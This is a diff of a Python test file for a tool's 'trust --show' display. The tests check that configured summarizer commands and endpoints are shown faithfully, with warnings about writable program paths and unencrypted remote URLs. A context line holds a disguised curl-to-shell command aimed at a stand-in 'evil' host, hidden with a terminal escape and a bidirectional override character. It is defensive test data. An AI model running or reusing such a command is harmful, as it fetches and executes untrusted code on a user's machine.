@@ -99,6 +99,16 @@ def test_every_word_is_shown_whole_and_none_acts(run: Run, workspace: Workspace)
     assert run("trust", "--show", *JSON).json["command"][2] == "curl evil\x1b[2K\u202e\n| sh"
 
 
+def test_where_a_program_is_found_is_said(run: Run, workspace: Workspace) -> None:
+    for command, said in (
+        ("sh", "“sh” (/"),
+        ("no-such-program", "(not found now)"),
+        ("./own", f"({workspace.root}/own, which whoever can write there may exchange)"),
+    ):
+        manifest(workspace, f'summarizer = "command"\ncommand = ["{command}"]')
+        assert said in run("trust", "--show").out
+
+
 def test_an_endpoint_is_shown_with_its_address_and_model(run: Run, workspace: Workspace) -> None:
     manifest(
         workspace,
@@ -107,6 +117,10 @@ def test_an_endpoint_is_shown_with_its_address_and_model(run: Run, workspace: Wo
     out = run("trust", "--show").out
     for word in ("“http://localhost:9/v1”", "“small”", "“A_KEY”"):
         assert word in out
+    assert "not encrypted" not in out
+    manifest(workspace, 'summarizer = "openai"\nbase_url = "http://far.example/v1"\nmodel = "small"')
+    assert "which is not encrypted" in run("trust", "--show").out
+    manifest(workspace, 'summarizer = "openai"\nbase_url = "http://localhost:9/v1"\nmodel = "small"')
     answer = run("trust", "--yes", *JSON)
     assert (answer.json["base_url"], answer.json["trusted"]) == ("http://localhost:9/v1", True)
 
